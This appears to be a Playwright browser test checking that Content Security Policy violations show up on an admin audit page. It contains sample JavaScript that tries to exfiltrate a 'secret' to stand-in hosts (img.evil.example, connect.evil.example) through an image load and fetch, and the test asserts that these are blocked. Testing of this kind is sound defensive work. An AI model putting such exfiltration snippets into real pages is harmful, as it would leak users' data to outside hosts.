"""What the policy made a browser refuse is told by the browser itself, and stands where admins look."""

from __future__ import annotations

import re
import time

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import PATIENCE_MS, Console, Desk

pytestmark = pytest.mark.browser

REFUSED = {
    "img-src": "document.body.append(Object.assign(new Image(), { src: 'https://img.evil.example?secret' }))",
    "connect-src": "fetch('https://connect.evil.example/x?secret').catch(() => 0)",
    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
    "require-trusted-types-for": "try { document.body.innerHTML = '<i>x</i>' } catch { }",
}


def test_a_browser_reports_what_it_refused(desk: Desk, console: Console) -> None:
    console.expect(
        r"policy violation: |Content Security Policy|TrustedHTML|Failed to load resource|Fetch API"
    )
    viewer, admin = desk.window("viewer"), desk.window("admin", "/audit/")
    for script in REFUSED.values():
        viewer.evaluate(f"() => {{ {script}; }}")
    looks = admin.get_by_role("region", name="Needs a look")
    until = time.monotonic() + PATIENCE_MS / 1000
    while any(f"{directive} " not in admin.inner_text("main") for directive in REFUSED):
        assert time.monotonic() < until, admin.inner_text("main")
        admin.reload()
    for directive, blocked in (
        ("img-src", "img.evil.example"),
        ("connect-src", "connect.evil.example"),
        ("style-src-attr", "inline"),
        ("require-trusted-types-for", "trusted-types-sink"),
    ):
        row = looks.get_by_role("listitem").filter(has_text=directive)
        expect(row).to_contain_text(blocked)
        expect(row).to_contain_text(re.compile(r"\d reports? in 7 days, of the page media-list"))
    assert "secret" not in admin.content()
